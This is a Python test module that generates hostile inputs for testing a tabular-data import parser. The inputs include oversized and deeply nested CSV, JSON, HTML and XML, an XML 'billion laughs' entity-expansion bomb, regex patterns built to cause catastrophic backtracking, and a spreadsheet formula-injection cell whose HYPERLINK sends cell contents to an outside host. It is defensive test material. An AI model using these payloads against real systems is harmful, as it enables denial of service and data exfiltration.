"""Hostile texts: cells, CSV, JSON, web pages, XML Spreadsheet 2003, profiles."""

import csv
import io
import json
import random
from collections.abc import Callable

from tests.etl.files import CERTIFICATES, GOOD
from tests.security.hostile import Content

Table = list[list[str]]
ROWS = 60
HEADER = "serial,suspended_on\n"
ROW = "A1,102/1/1\n"
# As long as a cell may be, or longer; or as a value may be.
CELLS = {
    "an @ a sign": "a@" * 16_000,
    "dots behind an @": "a@" + "a." * 16_000,
    "no @ before the end": "a." * 16_000 + "@",
    "marks on one sign": "a" + "\u0301" * 30_000,
    "marks, fewer than refused": ("a" + "\u0323\u0301" * 14) * 33,
    "signs that grow": "\ufdfa" * 990,
    "signs that turn": "\u202e\u2067" * 400 + "A1",
    "5,000 digits": "9" * 5_000,
    "an exponent": "1e999999",
    "one sign too long": "x" * 32_768,
    "a megabyte": "x" * (1 << 20),
    "entities": "&#64;&amp;" * 3_000,
    "brackets": "(" * 990,
    "line breaks": "a\n" * 16_000,
    "a live formula": '=HYPERLINK("http://a.tw/"&A1,"＝cmd|calc")',
}


def with_cell(table_of: Callable[[Table], bytes], cell: str) -> Content:
    """Where a value is expected, and where none is; no two rows are the same."""

    def made() -> bytes:
        rows = [[f"A{n}{cell * (n % 2)}", "102/1/1", f"{cell}{n}"] for n in range(ROWS)]
        return table_of([["serial", "suspended_on", "note"], *rows])

    return made


def with_header(cell: str) -> Content:
    cells = [f"{cell}{n}" for n in range(20)]
    return lambda: csv_of([["serial", "suspended_on", *cells], ["A1", "102/1/1", *cells]])


def csv_of(table: Table) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(table)
    return out.getvalue().encode()


def json_of(table: Table) -> bytes:
    return json.dumps([dict(zip(table[0], row, strict=True)) for row in table[1:]]).encode()


FORMATS = {"CSV": csv_of, "JSON": json_of}


def text(*parts: str | tuple[str, int], encoding: str = "utf-8") -> Content:
    """A part may be repeated."""

    def made() -> bytes:
        whole = (part if isinstance(part, str) else part[0] * part[1] for part in parts)
        return "".join(whole).encode(encoding, "surrogatepass")

    return made


def of_csv(*parts: str | tuple[str, int]) -> Content:
    return text(HEADER, *parts)


CSV: dict[str, Content] = {
    "4 million lines of one sign": text(("x\n", 4_000_000)),
    "4 million such lines below a header": of_csv(("x\n", 4_000_000)),
    "4 million blank lines": of_csv(("\n", 4_000_000)),
    "4 million lines of nothing": of_csv((",\n", 4_000_000)),
    "a quote that stays open": of_csv('"', (ROW, 800_000)),
    "a quote that stays open in the header": text('serial,"suspended_on\n', (ROW, 100_000)),
    "a quote that opens in the last row": of_csv((ROW, 100_000), '"A2,'),
    "a lone quote in each row": of_csv(('A"1,"102/1/1\n', 100_000)),
    "a million columns": text(",".join(f"c{n}" for n in range(1_000_000)), "\n"),
    "500 headers of one name": text(HEADER[:-1], ",備註" * 498, "\n", ROW[:-1], "," * 498),
    "a header of 8 MB": text("serial" * (8 << 20 >> 3)),
    "a row of a million cells": of_csv(("A1,", 1_000_000)),
    "90,000 rows of another width": of_csv(("A1,102/1/1,\n", 90_000)),
    "a row of 9 MB": of_csv("A1,", "9" * (9 << 20)),
    "lines that end in CR": text((HEADER + ROW * 300_000).replace("\n", "\r")),
    "lines that end in all ways": of_csv(("A1,102/1/1\r\nA2,102/1/1\r\r\n\n", 50_000)),
    "nothing but NUL": lambda: bytes(1 << 20),
    "noise": lambda: random.Random(13).randbytes(1 << 20),
    "half of a surrogate pair": lambda: (HEADER + ROW).encode("utf-16") + b"\x00\xd8\n\x00",
    "half a sign of UTF-16": lambda: (HEADER + ROW).encode("utf-16") + b"\n",
    "UTF-16 without a BOM": text(HEADER, ROW, encoding="utf-16-le"),
    "UTF-32": text(HEADER, ROW, encoding="utf-32"),
    "surrogates in UTF-8": text(HEADER, "A1\ud800,102/1/1\n"),
    "a BOM before each cell": text((HEADER + ROW * 50_000).replace(",", ",\ufeff\ufeff")),
    "half a sign of Big5": lambda: (HEADER + "甲,102/1/1\n").encode("cp950") * 9 + b"\xa4",
    "the header 100,000 times": text((HEADER, 100_000)),
    "100,000 notes": of_csv(("製表日期：102/9/24\n", 100_000)),
    "100,000 subtotals": of_csv(("小計,8\n", 100_000)),
    "spaces only": text((" ", 8 << 20)),
    "nothing": text(),
    "nothing but a BOM": text("\ufeff"),
}
STARTS = [b"%PDF-1.7", b"\x89PNG", b"7z\xbc\xaf\x27\x1c", b"Rar!", b"\x28\xb5\x2f\xfd"]
OTHER: dict[str, Content] = {
    f"begins with {start[:4]!r}": lambda start=start: start + bytes(1 << 20)
    for start in [*STARTS, b"0\x82\x05\xa0\x30\x82", b"-----BEGIN PKCS7", b"\xca\xfe\xba\xbe"]
}
FIELDS = '"serial": "A1", "suspended_on": "102/1/1"'
JSON: dict[str, Content] = {
    "lists in lists": text(("[", 1_000_000)),
    "objects in objects": text(('{"a":', 1_000_000)),
    "a value 900 deep": text("[{", FIELDS, ', "x": ', "[" * 900, "]" * 900, "}]"),
    "5,000 digits": text('[{"suspended_on": "102/1/1", "serial": ', ("9", 5_000), "}]"),
    "numbers that are none": text('[{"serial": 1e999999, "suspended_on": -Infinity}]'),
    "a key that comes twice": text("[{", FIELDS, ', "serial": "A2"}]'),
    "half of a surrogate pair": text("[{", FIELDS, ', "\\ud800": "\\udc00"}]'),
    "a million keys": text("[{", ",".join(f'"{n}":1' for n in range(1_000_000)), "}]"),
    "a new key each": text("[", ",".join(f'{{"{n}":1}}' for n in range(9_999)), "]"),
    "a list in each of the lines": text("{", FIELDS, ', "x": [{"a": 1}]}\n{', FIELDS, "}\n"),
    "4 million empty objects": text(("{}\n", 4_000_000)),
    "2 million objects": text(('{"serial":"A1"}\n', 2_000_000)),
    "cut short": text("[{", FIELDS, '}, {"serial": "A'),
    "one text of 60 MB": text('[{"serial": "', ("x", 60_000_000), '"}]'),
}
PAGE = "<table><tr><td>serial<td>suspended_on<tr><td>A1<td>102/1/1"


def page(*parts: str | tuple[str, int]) -> Content:
    return text(PAGE, *parts, "</table>")


HTML: dict[str, Content] = {
    "a million cells left open": page(("<td>x", 1_000_000)),
    "tables in tables": page(("<table><tr><td>", 20_000)),
    "elements in elements": page(("<b>", 1_000_000)),
    "cells over a million rows and columns": page("<tr><td rowspan=999999 colspan=999999>x"),
    "10,000 cells over all rows": page(("<tr><td rowspan=999999 colspan=900>x", 10_000)),
    "a DTD": text("<!DOCTYPE html><!ENTITY a 'b'>", PAGE, "</table>"),
    "an attribute of 20 MB": page("<td title='", ("x", 20_000_000), "'>x"),
    "an @ as an entity": page("<tr><td>A2<td>a&#64;b.tw"),
    "cut short": text(PAGE, "<tr><td>A2<td>102"),
    "a text of 20 MB": page("<tr><td>", ("x", 20_000_000), "<tr><td>A9<td>102/1/1"),
    "a comment that stays open": page("<!--", ("x", 20_000_000)),
}
OFFICE = "urn:schemas-microsoft-com:office:spreadsheet"
SPREADSHEET = f'<Workbook xmlns="{OFFICE}" xmlns:ss="{OFFICE}">'
START = f'<?xml version="1.0"?>{SPREADSHEET}<Worksheet ss:Name="a"><Table>'
XML_ROW = "<Row><Cell><Data>serial</Data></Cell><Cell><Data>suspended_on</Data></Cell></Row>"
LAUGHS = '<!DOCTYPE a [<!ENTITY a "haha">' + "".join(
    f'<!ENTITY {chr(n + 1)} "{f"&{chr(n)};" * 10}">' for n in range(97, 107)
)
XML: dict[str, Content] = {
    name: text(START, XML_ROW, *parts)
    for name, parts in {
        "a row far away": ['<Row ss:Index="999999999"><Cell><Data>x</Data></Cell></Row>'],
        "a row before the first": ['<Row ss:Index="-9"><Cell><Data>x</Data></Cell></Row>'],
        "a cell far away": ['<Row><Cell ss:Index="99999999"><Data>x</Data></Cell></Row>'],
        "a cell before the first": ['<Row><Cell ss:Index="-9"><Data>x</Data></Cell></Row>'],
        "cells over everything": ['<Row><Cell ss:MergeDown="9999999" ss:MergeAcross="999999"/>'],
        "a number of 5,000 digits": [
            '<Row><Cell><Data ss:Type="Number">',
            "9" * 5_000,
            "</Data></Cell></Row></Table></Worksheet></Workbook>",
        ],
        "elements in elements": ["<Row><Cell><Data>", ("<b>", 1_000_000)],
        "a million empty rows": [("<Row/>", 1_040_000), "</Table></Worksheet></Workbook>"],
    }.items()
} | {
    "entities that grow": text('<?xml version="1.0"?>', LAUGHS, "]>", SPREADSHEET, "&h;"),
    "entities behind a comment": text(
        f"<?xml version='1.0'?><!-- {SPREADSHEET} ", " " * 9_000, "-->", LAUGHS, "]>",
        START.partition("?>")[2], "<Row><Cell><Data>&k;</Data></Cell></Row>",
    ),
}  # fmt: skip


def many(feed_header: str, row: Callable[[int], str], count: int = 100_000) -> Content:
    def made() -> bytes:
        return (feed_header + "\n" + "".join(f"{row(n)}\n" for n in range(count))).encode()

    return made


def certificate(place: int, cell: str) -> Callable[[int], str]:
    cells = GOOD.split(",")
    return lambda n: ",".join([f"A{n}", *cells[1:place], f"{n}{cell}", *cells[place + 1 :]])


WIDE = ",".join(f"h{n}" for n in range(498))
VALUES: dict[str, tuple[str, Content]] = {
    "100,000 unknown kinds": ("certificates", many(CERTIFICATES, certificate(2, "有限公司商號"))),
    "100,000 unknown counties": ("certificates", many(CERTIFICATES, certificate(3, "臺南市"))),
    "20,000 unknown counties of 900 signs": (
        "certificates", many(CERTIFICATES, certificate(3, "臺" * 900), 20_000)),
    "100,000 days that are none": ("certificates", many(CERTIFICATES, certificate(5, "年2月30日"))),
    "names of 40,000 signs": (
        "units",
        many("unit_code,name,side,sector", lambda n: f"M{n},{'部' * 30_000},ministry,", 200)),
    "500 columns that may be personal": (
        "suspensions",
        many(f"{HEADER[:-1]},{WIDE}", lambda n: f"A{n},102/1/1" + f",王{n}路 09" * 498, 5_000)),
}  # fmt: skip
killing = many("serial,suspended_on,x", lambda n: f"A{n},102/1/1,{'a' * 30_000}!", 20)
_OF = 'feed = "suspensions"\n'
_SERIAL = _OF + "[columns.serial]\nfrom = 'x'\npattern = '%s'\n"
PROFILES = {
    **{
        f"the pattern {pattern[:24]}": _SERIAL % pattern
        for pattern in (
            "^(a+)+$", "(a|a)*$", "(a|aa)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*)*x", "(a*)*b",
            "((a{1,1000}){1,1000})$", "(?=a)+", "(a)\\1+", "a" * 30_000, "(" * 30_000,
        )
    },
    "lists in lists": "a = " + "[" * 30_000,
    "tables in tables": "a = " + "{a=" * 15_000,
    "a key of 30,000 parts": ".".join("a" * 30_000) + " = 1",
    "more than is read": _OF + "#" * (65 << 10),
    "5,000 digits": _OF + "x = " + "9" * 5_000,
    "a format of 20,000 parts": _OF
    + f"[columns.suspended_on]\nfrom = 'x'\nformat = '{'%Y' * 20_000}'\n",
    "half of a surrogate pair": _OF + 'title = "\\ud800"',
}  # fmt: skip
FAMILIES = {"CSV": CSV, "other kinds": OTHER, "JSON": JSON, "HTML": HTML, "XML": XML}
